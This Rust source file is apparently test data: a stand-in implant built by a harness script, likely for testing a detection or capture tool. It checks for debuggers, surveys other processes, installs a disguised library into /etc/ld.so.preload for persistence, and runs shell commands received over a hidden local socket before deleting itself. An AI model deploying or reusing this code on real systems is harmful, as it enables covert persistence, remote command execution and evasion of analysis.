// "sysagent": a Rust (std only) stand-in for an implant. Built at capture time with Debian's
// rustc by testdata/harness/rust_antidebug_c2.sh; see that script for what it does.
use std::fs;
use std::io::{Read, Write};
use std::os::unix::io::FromRawFd;
use std::process::Command;

extern "C" {
    fn ptrace(request: i32, pid: i32, addr: usize, data: usize) -> i64;
    fn socket(domain: i32, ty: i32, proto: i32) -> i32;
    fn connect(fd: i32, addr: *const u8, len: u32) -> i32;
}

const HOOK: &[u8] = include_bytes!("libhook.so");

fn being_traced() -> bool {
    // PTRACE_TRACEME fails with EPERM when a tracer (strace, gdb) is already attached.
    let refused = unsafe { ptrace(0, 0, 0, 0) } == -1;
    let status = fs::read_to_string("/proc/self/status").unwrap_or_default();
    let tracer = status
        .lines()
        .find(|l| l.starts_with("TracerPid:"))
        .map(|l| l.split_whitespace().nth(1).unwrap_or("0") != "0")
        .unwrap_or(false);
    refused || tracer
}

// Other processes' command lines and environments: who else runs here, and their secrets.
fn survey() -> Vec<String> {
    let me = std::process::id().to_string();
    let mut seen = Vec::new();
    let mut pids: Vec<u32> = fs::read_dir("/proc")
        .map(|d| d.filter_map(|e| e.ok()?.file_name().to_str()?.parse().ok()).collect())
        .unwrap_or_default();
    pids.sort();
    for pid in pids {
        if pid.to_string() == me {
            continue;
        }
        let cmd = fs::read(format!("/proc/{}/cmdline", pid)).unwrap_or_default();
        let cmd: String = cmd.iter().map(|&b| if b == 0 { ' ' } else { b as char }).collect();
        let env = fs::read(format!("/proc/{}/environ", pid)).map(|e| e.len()).unwrap_or(0);
        seen.push(format!("{} {} env={}", pid, cmd.trim(), env));
    }
    seen
}

// A connected stream to the abstract UNIX socket "@.X11-session-7" (no file on disk).
fn c2_connect() -> Option<fs::File> {
    let name = b"\0.X11-session-7";
    let mut addr = [0u8; 110];
    addr[0] = 1; // AF_UNIX, little endian sa_family
    addr[2..2 + name.len()].copy_from_slice(name);
    let fd = unsafe { socket(1, 1 | 0o2000000, 0) }; // SOCK_STREAM | SOCK_CLOEXEC
    if fd < 0 {
        return None;
    }
    if unsafe { connect(fd, addr.as_ptr(), (2 + name.len()) as u32) } != 0 {
        return None;
    }
    Some(unsafe { fs::File::from_raw_fd(fd) })
}

fn install_preload() {
    let dir = "/tmp/.X11-unix";
    let _ = fs::create_dir_all(dir);
    let lib = format!("{}/.libXau.so.6", dir);
    if fs::write(&lib, HOOK).is_err() {
        return;
    }
    // System-wide first (needs root), then for the programs it starts.
    match fs::OpenOptions::new().append(true).create(true).open("/etc/ld.so.preload") {
        Ok(mut f) => {
            let _ = writeln!(f, "{}", lib);
        }
        Err(e) => eprintln!("sysagent: preload: {}", e),
    }
    std::env::set_var("LD_PRELOAD", &lib);
}

fn main() {
    let traced = being_traced();
    println!("sysagent 0.4.1 starting (debug={})", traced);
    let procs = survey();
    install_preload();
    let mut c2 = match c2_connect() {
        Some(s) => s,
        None => {
            eprintln!("sysagent: no session bus");
            return;
        }
    };
    let host = fs::read_to_string("/etc/hostname").unwrap_or_default();
    let _ = write!(c2, "HELLO {} traced={} procs={}\n", host.trim(), traced, procs.len());
    for p in &procs {
        let _ = write!(c2, "PROC {}\n", p);
    }
    let _ = write!(c2, "READY\n");
    let mut buf = [0u8; 512];
    let n = c2.read(&mut buf).unwrap_or(0);
    let task = String::from_utf8_lossy(&buf[..n]).to_string();
    if let Some(cmd) = task.strip_prefix("RUN ") {
        let out = Command::new("/bin/sh").arg("-c").arg(cmd.trim()).output();
        if let Ok(o) = out {
            let _ = c2.write_all(&o.stdout);
        }
    }
    let _ = write!(c2, "BYE\n");
    // Leave no binary behind: unlink the program's own file.
    if let Ok(exe) = std::env::current_exe() {
        let _ = fs::remove_file(exe);
    }
    println!("sysagent: done");
}
